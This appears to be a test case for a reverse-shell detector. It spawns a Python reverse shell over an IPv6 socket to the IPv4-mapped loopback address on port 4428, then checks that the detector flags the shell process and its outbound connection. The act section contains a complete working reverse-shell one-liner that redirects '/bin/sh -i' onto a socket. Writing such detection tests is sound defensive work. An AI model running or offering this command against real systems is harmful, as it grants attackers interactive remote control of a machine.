# R18b: a shell on a connection of IPv4 by an IPv6 socket
# stage: behaviour
# expect: reverse_shell_detected
#   detection.reason: ~outbound
#   reverse_shell.process_list.length: 1
#   reverse_shell.process_list.0.process_id: $shell
#   reverse_shell.process_list.0.network_connection_list.0.destination_port: 4428

#: prepare
. lib/peers.sh
peer6 4428
#: act
. lib/peers.sh
act
python3 -c '
import os, socket
s = socket.socket(socket.AF_INET6); s.connect(("::ffff:127.0.0.1", 4428))
for fd in 0, 1, 2: os.dup2(s.fileno(), fd)
os.execv("/bin/sh", ["sh", "-i"])' < /dev/null > /dev/null 2>&1 & fact shell $!
await 'at $shell ../exe /usr/bin/dash && at $shell 0 socket:*'
